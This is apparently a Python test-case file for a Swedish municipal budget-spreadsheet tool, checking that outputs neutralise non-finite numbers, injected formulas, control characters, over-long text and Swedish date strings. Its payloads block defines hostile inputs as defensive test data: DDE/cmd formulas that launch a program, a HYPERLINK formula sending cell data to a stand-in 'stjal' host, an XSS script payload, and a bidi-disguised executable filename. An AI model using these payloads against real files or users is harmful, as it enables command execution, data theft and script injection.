"""Cases on what a cell holds: non-finite numbers, injected formulas and scripts, control characters,
text longer than a cell, and dates typed as Swedish text.

Issue 12: non-finite numbers are a fel at their cell and every metadata value is parsed defensively
(part 1); text beginning with = + - @ is always text in every output, control characters are
stripped or escaped per output, text longer than a cell gets a varning and stays whole in JSON and
HTML (part 2); common Swedish date texts are read with a varning (part 5).
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

from support.hostile.checks import clean_outputs, inert, whole_text
from support.hostile.edits import cell, copy_example, meta, type_cells
from support.hostile.inboxes import follow_file, plan_file, plan_name
from support.hostile.model import Built, Case, Context, Expect, Want
from support.hostile.zipparts import number_xml, set_cell, text_xml

AUG = "2026-08"  # the delårsrapport period of the examples
MAR = "2026-03"  # a månadsrapport period of the examples


def _number(doc: str, where: tuple[str, str], raw: str, period: str | None = None, namnd: str = "kfn"):  # noqa: ANN202
    """A numeric cell holding `raw` as stored in the file (NaN, inf, 1e400)."""
    def build(d: Path, ctx: Context) -> Built:
        inbox, f = follow_file(d, ctx, doc, period, namnd) if period else plan_file(d, ctx, doc, namnd)
        set_cell(f, *where, *number_xml(raw))
        return Built(f, inbox, period=period)
    return build


def _typed(doc: str, cells: dict[tuple[str, str], object], period: str | None = None, namnd: str = "kfn",
           small: bool = False):  # noqa: ANN202
    """Values typed into cells of one nämnd's example (strings stay text); `small`: the nämnd's inbox only."""
    def build(d: Path, ctx: Context) -> Built:
        inbox, f = (follow_file(d, ctx, doc, period, namnd) if period else plan_file(d, ctx, doc, namnd, small))
        type_cells(f, cells)
        return Built(f, inbox, period=period)
    return build


def excel_escaped(text: str) -> str:
    """Control characters as Excel stores them in a sheet (_x001B_ for ESC), since XML cannot hold them."""
    return "".join(f"_x{ord(ch):04X}_" if ord(ch) < 32 and ch not in "\t\n\r" else ch for ch in text)


def _raw_text(doc: str, where: tuple[str, str], text: str, raw: bool = False, period: str | None = None,
              namnd: str = "kfn"):  # noqa: ANN202
    """A text cell written at XML level, its control characters as Excel escapes them (`raw`: unescaped bytes).

    Also for text longer than 32 767 characters, which openpyxl (like Excel) would cut.
    """
    def build(d: Path, ctx: Context) -> Built:
        inbox, f = follow_file(d, ctx, doc, period, namnd) if period else plan_file(d, ctx, doc, namnd)
        set_cell(f, *where, *text_xml(text if raw else excel_escaped(text), raw=raw))
        return Built(f, inbox, period=period)
    return build


def _renamed(name: str) -> Callable[[Path, Context], Built]:
    """A valid workbook under a file name that holds control characters."""
    def build(d: Path, ctx: Context) -> Built:
        return Built(copy_example(ctx.planering / plan_name("taxor", "kfn"), d / name))
    return build


def at(where: tuple[str, str], severity: str | None = "fel", rule: str = r"[A-ZÅÄÖ]+-\d+", text: str | None = None) -> Want:
    return Want(rule=rule, severity=severity, sheet=where[0], cell=where[1], text=text)


# ---------------------------------------------------------------- places (from the forms' declarations)
DB_COST = cell("driftbudget", "drift", "kostnader_1", 1)  # Driftbudget!H7: the examples' first cost row
DB_INCOME = cell("driftbudget", "drift", "intakter_1", 0)  # Driftbudget!E6
DB_VERKSAMHET = cell("driftbudget", "drift", "verksamhet", 0)
INV_UTGIFT = cell("investeringsplan", "projekt", "utgift_1", 0)
INV_NAMN = cell("investeringsplan", "projekt", "namn", 0)
TAX_NUVARANDE = cell("taxor", "taxor", "nuvarande", 0)
TAX_MOTIVERING = cell("taxor", "taxor", "motivering", 0)
TAX_TAXA = cell("taxor", "taxor", "taxa", 0)
TAX_VERKSAMHET = cell("taxor", "taxor", "verksamhet", 0)
NP_MALTEXT = cell("namndplan", "mal", "text", 1)  # the first nämndmål (row 0 is the riktat mål)
NP_MATT = cell("namndplan", "matt", "matt", 2)  # kfn: rows 0–1 are RM6's mått, pre-filled from malkedja.yaml
NP_MALVARDE = cell("namndplan", "matt", "malvarde_1", 0)
VP_AKTIVITET = cell("verksamhetsplan", "aktiviteter", "aktivitet", 0)
VP_KLART = cell("verksamhetsplan", "aktiviteter", "klart", 0)
DR_UTFALL = cell("delarsrapport", "ekonomi", "utfall_kostnader", 0)
DR_KOMMENTAR = cell("delarsrapport", "ekonomi", "kommentar", 0)
DR_ATGARD = cell("delarsrapport", "atgarder", "atgard", 0)
DR_ATGARD_KLART = cell("delarsrapport", "atgarder", "klart", 0)
DR_MALANALYS = cell("delarsrapport", "mal", "analys", 0)
DR_MATT_UTFALL = cell("delarsrapport", "matt", "utfall", 0)
MR_ATGARD = cell("manadsrapport", "atgarder", "atgard", 0)

KP0 = Expect("kommunplan", 0, outputs="complete")
KP1 = Expect("kommunplan", 1, outputs="complete")  # kfn's driftbudget is out: its ram is not covered
RAPPORT = Expect("rapport", 0, outputs="complete")

# ---------------------------------------------------------------- payloads
HYPERLINK = '=HYPERLINK("http://example.invalid/stjal?d="&A1,"Klicka här för detaljer")'
CMD = "=cmd|' /C calc'!A0"
PLUS = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
DDE = '=DDE("cmd";"/C calc";"!A0")'
SCRIPT = '<script>alert("xltools")</script><img src=x onerror=alert(1)>'

LONG = ("Lång motivering som klistrats in från ett annat dokument. " * 700)[:39_999] + "."  # no trailing blank
LONG_MAL = ("Nämnden ska under perioden förbättra resultatet. " * 700)[:32_999] + "."

ANSI = "\x1b[2J\x1b[1;31m"
OSC = "\x1b]0;xltools\x07"
BIDI = "\u202e"


def _inject(doc: str, where: tuple[str, str], payload: str, command: str, reaches: tuple[str, ...],
            period: str | None = None, namnd: str = "kfn") -> tuple[Callable[[Path, Context], Built], tuple[Expect, ...]]:
    """A payload typed as text into a field that reaches a report: validate passes, every output holds it inert."""
    build = _typed(doc, {where: payload}, period, namnd)
    out = Expect(command, 0, named=False, outputs="complete", checks=(inert(payload, reaches), clean_outputs()))
    return build, (Expect("validate", 0, text=False), out)


def _injection_cases() -> list[Case]:
    rows = [
        ("atgard-hyperlink", "Åtgärd i delårsrapportens blad Åtgärder", "delarsrapport", DR_ATGARD, HYPERLINK, "rapport",
         ("xlsx", "json", "html"), AUG, "fgn"),
        ("atgard-cmd", "Åtgärd i delårsrapporten", "delarsrapport", DR_ATGARD, CMD, "rapport", ("xlsx", "json", "html"),
         AUG, "fgn"),
        ("atgard-plus", "Åtgärd i delårsrapporten", "delarsrapport", DR_ATGARD, PLUS, "rapport", ("xlsx", "json", "html"),
         AUG, "fgn"),
        ("atgard-minus", "Åtgärd i delårsrapporten", "delarsrapport", DR_ATGARD, MINUS, "rapport", ("xlsx", "json", "html"),
         AUG, "fgn"),
        ("atgard-at", "Åtgärd i delårsrapporten", "delarsrapport", DR_ATGARD, AT, "rapport", ("xlsx", "json", "html"),
         AUG, "fgn"),
        ("atgard-dde", "Åtgärd i delårsrapporten", "delarsrapport", DR_ATGARD, DDE, "rapport", ("xlsx", "json", "html"),
         AUG, "fgn"),
        ("atgard-manadsrapport", "Åtgärd i månadsrapporten för mars", "manadsrapport", MR_ATGARD, HYPERLINK, "rapport",
         ("xlsx", "json"), MAR, "fgn"),
        ("ekonomi-kommentar", "Kommentar på ekonomiraden i delårsrapporten", "delarsrapport", DR_KOMMENTAR, CMD,
         "rapport", ("xlsx",), AUG, "kfn"),
        ("malanalys-script", "Målanalys i delårsrapporten", "delarsrapport", DR_MALANALYS, SCRIPT, "rapport",
         ("xlsx", "html"), AUG, "kfn"),
        ("malanalys-hyperlink", "Målanalys i delårsrapporten", "delarsrapport", DR_MALANALYS, HYPERLINK, "rapport",
         ("xlsx", "html"), AUG, "kfn"),
        ("maltext-hyperlink", "Nämndmålets text i nämndplanen", "namndplan", NP_MALTEXT, HYPERLINK, "kommunplan",
         ("xlsx", "html"), None, "kfn"),
        ("matt-dde", "Måttets namn i nämndplanen", "namndplan", NP_MATT, DDE, "kommunplan", ("xlsx", "html"), None, "kfn"),
        ("motivering-cmd", "Taxans motivering", "taxor", TAX_MOTIVERING, CMD, "kommunplan", ("xlsx", "html"), None, "kfn"),
        ("motivering-script", "Taxans motivering", "taxor", TAX_MOTIVERING, SCRIPT, "kommunplan", ("xlsx", "html"), None,
         "kfn"),
        ("taxa-at", "Taxans namn", "taxor", TAX_TAXA, AT, "kommunplan", ("xlsx", "html"), None, "kfn"),
        ("projekt-minus", "Investeringsprojektets namn", "investeringsplan", INV_NAMN, MINUS, "kommunplan",
         ("xlsx", "json", "html"), None, "kfn"),
    ]
    cases = []
    for cid, what, doc, where, payload, command, reaches, period, namnd in rows:
        build, expect = _inject(doc, where, payload, command, reaches, period, namnd)
        out = "uppföljningsrapporten" if command == "rapport" else "kommunplanen och bilagorna"
        cases.append(Case(f"injektion-{cid}", "injection", f"{what} ({where[0]}!{where[1]}) börjar med {payload[:28]!r}.",
                          build, expect, f"Texten blir text i {out} (xlsx aldrig formel, HTML escapad, JSON hel)."))
    build = _typed("verksamhetsplan", {VP_AKTIVITET: HYPERLINK}, small=True)
    cases.append(Case("injektion-aktivitet-kopia", "injection",
                      f"Aktivitetens text ({VP_AKTIVITET[0]}!{VP_AKTIVITET[1]}) är en HYPERLINK-formel som text.",
                      build, (Expect("validate", 0, text=False), Expect("annotate", 0, named=False, outputs="complete",
                                                            checks=(inert(HYPERLINK, ("xlsx",)),))),
                      "Den kommenterade kopian bär texten som text, inte som formel."))
    return cases


def _nonfinite_cases() -> list[Case]:
    rows = [
        ("nan-kostnad", "driftbudget", DB_COST, "NaN", None, (KP1,)),
        ("inf-intakt", "driftbudget", DB_INCOME, "inf", None, (KP1,)),
        ("1e400-utgift", "investeringsplan", INV_UTGIFT, "1e400", None, (Expect("kommunplan", (0, 1), outputs="complete"),)),
        ("minus-inf-taxa", "taxor", TAX_NUVARANDE, "-inf", None, (KP0,)),
        ("nan-malvarde", "namndplan", NP_MALVARDE, "NaN", None, ()),
        ("nan-utfall-delar", "delarsrapport", DR_UTFALL, "NaN", AUG, (RAPPORT,)),
        ("inf-matt-utfall", "delarsrapport", DR_MATT_UTFALL, "Infinity", AUG, ()),
    ]
    cases = [Case(f"icke-andligt-{cid}", "nonfinite", f"Cellen {w[0]}!{w[1]} i {doc} innehåller talet {raw}.",
                  _number(doc, w, raw, period), (Expect("validate", 1, at(w)), *more),
                  "Fel vid cellen; sammanställningen fortsätter utan traceback med filen utanför.")
             for cid, doc, w, raw, period, more in rows]
    cases.append(Case("icke-andligt-1e400-som-text", "nonfinite",
                      f"Texten \"1e400\" skriven i beloppscellen {DB_COST[0]}!{DB_COST[1]}.",
                      _typed("driftbudget", {DB_COST: "1e400"}), (Expect("validate", 1, at(DB_COST)), KP1),
                      "Text som tolkas som tal ger aldrig ett oändligt belopp: fel vid cellen."))
    for raw in ("inf", "1e400", "nan"):
        cases.append(Case(f"icke-andligt-metadata-ar-{raw}", "nonfinite",
                          f"Metadata-året (_xltools!B8) är {raw!r}.",
                          _typed("taxor", {meta("year"): raw}), (Expect("validate", 1, at(meta("year"))), KP0),
                          "Metadata tolkas defensivt: fel vid metadatacellen, ingen traceback."))
    return cases


def _control_cases() -> list[Case]:
    return [
        Case("styrtecken-ansi-i-listcell", "control", "ANSI-sekvenser (rensa skärmen, röd text) i en listcell som felet citerar.",
             _raw_text("driftbudget", DB_VERKSAMHET, f"{ANSI}300 Allmän kulturverksamhet"),
             (Expect("validate", 1, at(DB_VERKSAMHET)), KP1),
             "Meddelandet når terminalen utan råa styrtecken (de tas bort eller visas escapade)."),
        Case("styrtecken-osc-i-metadata", "control", "En OSC-sekvens (byter terminalens titel) i metadata-nämnden.",
             _raw_text("taxor", meta("namnd"), f"{OSC}kfn"), (Expect("validate", 1, at(meta("namnd"))),),
             "Fel vid metadatacellen; terminalen får inga råa styrtecken."),
        Case("styrtecken-ansi-i-taxans-verksamhet", "control",
             "ANSI-sekvens i taxans verksamhet: kommunplanen listar filen som utesluten och citerar värdet.",
             _raw_text("taxor", TAX_VERKSAMHET, f"{ANSI}345 Idrotts- och fritidsanläggningar"),
             (Expect("validate", 1, at(TAX_VERKSAMHET)), KP0),
             "Kommunplanens utskrift är fri från råa styrtecken."),
        Case("styrtecken-nul-escape", "control", "NUL och ESC som Excels _x0000_/_x001B_ i taxans namn.",
             _raw_text("taxor", TAX_TAXA, "Entré\x00 simhallen\x1b[31m, vuxen"),
             (Expect("validate", 0), Expect("kommunplan", 0, named=False, outputs="complete", checks=(clean_outputs(),))),
             "Styrtecken tas bort eller escapas i varje utdata (HTML, JSON, xlsx)."),
        Case("styrtecken-ra-esc-i-xml", "control", "Råa ESC- och BEL-byte direkt i bladets XML (motiveringen).",
             _raw_text("taxor", TAX_MOTIVERING, "Höjning\x1b[31m enligt index\x07", raw=True),
             (Expect("validate", (0, 2)), Expect("kommunplan", 0, named=False, outputs="complete",
                                                  checks=(clean_outputs(),))),
             "Filen läses eller avvisas, men inga råa styrtecken når terminal eller utdata."),
        Case("styrtecken-bidi-i-maltext", "control", "Bidi-override (U+202E) i nämndmålets text.",
             _typed("namndplan", {NP_MALTEXT: f"Fler besök {BIDI}tatluser{BIDI} i biblioteken."}),
             (Expect("validate", 0), Expect("kommunplan", 0, named=False, outputs="complete",
                                           checks=(clean_outputs(),))),
             "Bidi-styrtecken tas bort eller escapas i HTML och JSON."),
        Case("styrtecken-ansi-i-filnamn", "control", "Filnamnet innehåller ANSI-sekvenser.",
             _renamed(f"taxor-kfn-2027{ANSI}.xlsx"), (Expect("validate", 0, text=True),),
             "Filnamnet visas utan råa styrtecken (escapat) i meddelandet."),
        Case("styrtecken-bidi-i-filnamn", "control", "Filnamnet innehåller en bidi-override (U+202E), som 'xslx.exe'.",
             _renamed(f"taxor-kfn-2027-{BIDI}exe.xlsx"), (Expect("validate", 0, text=True),),
             "Filnamnet visas utan bidi-styrtecken i meddelandet."),
    ]


def _longtext_cases() -> list[Case]:
    """Texts written into the sheet XML: openpyxl, like Excel, cuts a cell at 32 767 characters; other tools do not."""
    return [
        Case("lang-text-motivering", "longtext", "Taxans motivering är 40 000 tecken (Excel rymmer 32 767).",
             _raw_text("taxor", TAX_MOTIVERING, LONG),
             (Expect("validate", 0, at(TAX_MOTIVERING, "varning")),
              Expect("kommunplan", 0, named=False, outputs="complete", checks=(whole_text(LONG, ("html",)),))),
             "Varning vid validering; hel i JSON och HTML, markerad som förkortad i xlsx."),
        Case("lang-text-atgard", "longtext", "En åtgärd i delårsrapporten är 40 000 tecken.",
             _raw_text("delarsrapport", DR_ATGARD, LONG, period=AUG, namnd="fgn"),
             (Expect("validate", 0, at(DR_ATGARD, "varning")),
              Expect("rapport", 0, named=False, outputs="complete", checks=(whole_text(LONG, ("json", "html")),))),
             "Varning vid validering; hel i JSON och HTML, markerad som förkortad i xlsx."),
        Case("lang-text-maltext", "longtext", "Nämndmålets text är 33 000 tecken.",
             _raw_text("namndplan", NP_MALTEXT, LONG_MAL), (Expect("validate", 0, at(NP_MALTEXT, "varning")),),
             "Varning vid validering, vid cellen."),
    ]


def _date_cases() -> list[Case]:
    rows = [("1-mars-2027", "1 mars 2027"), ("31-3-2027", "31/3 2027"), ("iso-som-text", "2027-03-31")]
    cases = [Case(f"datum-{cid}", "dates", f"Klart-datum skrivet som texten {text!r} ({VP_KLART[0]}!{VP_KLART[1]}).",
                  _typed("verksamhetsplan", {VP_KLART: text}), (Expect("validate", 0, at(VP_KLART, "varning")),),
                  "Vanliga svenska datumtexter läses, med en varning vid cellen.")
             for cid, text in rows]
    cases.append(Case("datum-30-februari", "dates", "Klart-datum skrivet som texten '30 februari 2027'.",
                      _typed("verksamhetsplan", {VP_KLART: "30 februari 2027"}), (Expect("validate", 1, at(VP_KLART)),),
                      "Ett datum som inte finns är fel vid cellen."))
    cases.append(Case("datum-atgard-30-november", "dates",
                      f"Åtgärdens datum skrivet som '30 november 2026' ({DR_ATGARD_KLART[0]}!{DR_ATGARD_KLART[1]}).",
                      _typed("delarsrapport", {DR_ATGARD_KLART: "30 november 2026"}, AUG, "fgn"),
                      (Expect("validate", 0, at(DR_ATGARD_KLART, "varning")),),
                      "Vanliga svenska datumtexter läses, med en varning vid cellen."))
    return cases


CASES = [*_nonfinite_cases(), *_injection_cases(), *_control_cases(), *_longtext_cases(), *_date_cases()]
